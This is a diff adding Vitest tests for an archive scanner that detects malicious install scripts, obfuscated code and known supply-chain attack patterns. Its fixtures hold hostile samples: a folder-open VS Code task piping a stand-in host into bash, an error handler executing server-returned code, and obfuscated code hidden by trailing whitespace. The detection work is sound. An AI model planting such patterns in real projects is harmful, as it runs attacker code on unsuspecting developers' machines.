@@ -1,0 +1,178 @@
+import { describe, expect, it } from 'vitest'
+import { findings } from '#messages/check-repo-findings'
+import { type ArchiveFiles, toTarGz, toZip } from './archive.fixture.ts'
+import { checkArchive } from './check.ts'
+import { harmful, harmless } from './check-cases.fixture.ts'
+import { gradedCodes } from './grades.ts'
+
+const check = async (files: ArchiveFiles) => checkArchive('task.tar.gz', await toTarGz(files))
+const codesOf = async (files: ArchiveFiles) => (await check(files)).groups.map(({ code }) => code)
+
+describe('each finding', () => {
+  it.each(gradedCodes.map(({ code }) => code))(
+    '%s has a case that shows it, and one that looks like it',
+    (code) => {
+      expect([harmful[code].length > 0, harmless[code].length > 0]).toEqual([true, true])
+    },
+  )
+
+  it.each(
+    gradedCodes.flatMap(({ code }) =>
+      harmful[code].map((files) => [code, Object.keys(files).join(', '), files] as const),
+    ),
+  )('%s is found in %s', async (code, _paths, files) => {
+    expect(await codesOf(files)).toContain(code)
+  })
+
+  it.each(
+    gradedCodes.flatMap(({ code }) =>
+      harmless[code].map((files) => [code, Object.keys(files).join(', '), files] as const),
+    ),
+  )('%s is not found in %s, which looks like it', async (code, _paths, files) => {
+    expect(await codesOf(files)).not.toContain(code)
+  })
+
+  it('is explained in whole sentences', () => {
+    for (const [code, { title, means, todo }] of Object.entries(findings)) {
+      expect([code, title]).toEqual([code, expect.stringMatching(/[^.]$/)])
+      for (const text of [means, todo]) expect([code, text]).toEqual([code, expect.stringMatching(/[.]$/)])
+    }
+  })
+})
+
+describe('a report', () => {
+  it('names the file without the folder of its host, the line and the words', async () => {
+    const { groups } = await check({
+      'package.json': '{\n  "name": "task",\n  "scripts": {\n    "postinstall": "node setup.js"\n  }\n}',
+    })
+    expect(groups).toEqual([
+      {
+        code: 'install_script',
+        grade: 'look',
+        count: 1,
+        places: [
+          { code: 'install_script', path: 'package.json', line: 4, quote: '"postinstall": "node setup.js"' },
+        ],
+      },
+    ])
+  })
+
+  it('has the gravest first, and counts more places than it names', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 12 }, (_, index) => [
+        `a${index}/package.json`,
+        '{"scripts":{"prepare":"node b.js"}}',
+      ]),
+    )
+    const { groups } = await check({ ...many, 'x.js': 'eval(atob(payload))' })
+    expect(groups.map(({ code, grade, count, places }) => [code, grade, count, places.length])).toEqual([
+      ['decoded_code', 'stop', 1, 1],
+      ['prepare_script', 'note', 12, 8],
+    ])
+  })
+
+  it('shows characters that deceive as what they are', async () => {
+    const { groups } = await check({ 'a.js': `eval(atob('\u202Ex\u0007y\u200B'))` })
+    const [place] = groups.find(({ code }) => code === 'decoded_code')?.places ?? []
+    expect(place?.quote).toBe(`eval(atob('□x y□'))`)
+  })
+
+  it('says what was read, cut and passed over', async () => {
+    const zip = toZip({ 'a/long.js': 'x'.repeat(3_000_000), 'b/a.txt': 'text' })
+    expect(await checkArchive('task.zip', zip)).toMatchObject({
+      name: 'task.zip',
+      files: 2,
+      cutFiles: 1,
+      skipped: { link: 0, encrypted: 0, deep: 0 },
+      end: undefined,
+      hasHistory: false,
+    })
+    expect(await checkArchive('task.zip', toZip({ a: 'x' }, { flags: 1 }))).toMatchObject({
+      files: 0,
+      skipped: { encrypted: 1 },
+    })
+  })
+
+  it('knows the history of an archive that has it', async () => {
+    const log = '0000 1111 Ana <ana@example.org> 1790000000 +0000\tcommit (initial): Initial commit\n'
+    expect(await check({ '.git/logs/HEAD': log })).toMatchObject({ hasHistory: true })
+  })
+
+  it('of packages in node_modules has only what is grave', async () => {
+    const files = {
+      'node_modules/a/package.json': '{"scripts":{"postinstall":"node a.js"}}',
+      'node_modules/a/index.js': 'eval(atob(payload))',
+    }
+    expect(await codesOf(files)).toEqual(['decoded_code', 'bundled_package'])
+  })
+})
+
+describe('an attack that is known', () => {
+  it('by a task that runs when the folder is opened, with comments in its JSON', async () => {
+    const tasks = `{
+      // build
+      "version": "2.0.0",
+      "tasks": [{
+        "label": "env", "type": "shell", /* for all */
+        "osx": { "command": "curl -sL 'https://load.example/mac?flag=1' | bash" },
+        "windows": { "command": "node", "args": ["public/fonts/fa-brands-regular.woff2"] },
+        "presentation": { "reveal": "never", "echo": false, },
+        "runOptions": { "runOn": "folderOpen" },
+      }],
+    }`
+    expect(await codesOf({ '.vscode/tasks.json': tasks })).toEqual(['folder_task_download'])
+  })
+
+  it('by an error handler that runs the answer of a server whose address is in the settings', async () => {
+    const address = Buffer.from('https://errors.example/api/service').toString('base64')
+    const controller = `
+      const getCookie = asyncErrorHandler(async (req, res, next) => {
+        const result = await axios.get(atob(process.env.DEV_API_KEY), { headers: { 'x-secret-key': '_' } });
+        next();
+      });
+      const errorHandler = (err, req, res, next) => {
+        const handler = new (Function.constructor)('require', err.response.data);
+        handler(require);
+      };`
+    expect(
+      await codesOf({
+        'server/.env.example': `PORT=3000\nDEV_API_KEY="${address}"`,
+        'server/error.js': controller,
+      }),
+    ).toEqual(expect.arrayContaining(['fetched_code', 'error_handler_code', 'encoded_setting']))
+  })
+
+  it('by a line far to the right at the end of a configuration', async () => {
+    const config = `module.exports = { content: [] };${' '.repeat(300)}global['!']='8-270';var _$_1e42=(function(l,e){return l})('x',1);`
+    expect(await codesOf({ 'tailwind.config.js': config })).toEqual(['hidden_to_the_right', 'obfuscated'])
+  })
+})
+
+describe('hostile files take no longer than others', () => {
+  it.each([
+    ['quotes', '"\\'.repeat(500_000)],
+    ['comments without an end', '/*'.repeat(1_000_000)],
+    ['opening brackets', '[{"a":'.repeat(300_000)],
+    ['blank lines', '\n'.repeat(2_000_000)],
+    ['one word', 'a'.repeat(2_000_000)],
+    ['calls without an end', 'eval(Function('.repeat(140_000)],
+    ['downloads without an end', 'curl wget sh -c exec( '.repeat(90_000)],
+    ['numbers', '[11,'.repeat(500_000)],
+    ['handlers', '(err, req, res, next'.repeat(100_000)],
+    ['assignments', 'ab=atob('.repeat(250_000)],
+  ])('%s', async (_what, text) => {
+    const names = [
+      'package.json',
+      '.vscode/tasks.json',
+      'a.js',
+      'a.py',
+      'a.sh',
+      '.env',
+      'yarn.lock',
+      '.npmrc',
+    ]
+    const files = Object.fromEntries(names.map((name) => [name, text]))
+    // A rule whose time grows with the square of the length would need hours.
+    expect((await check(files)).files).toBe(names.length)
+  })
+})
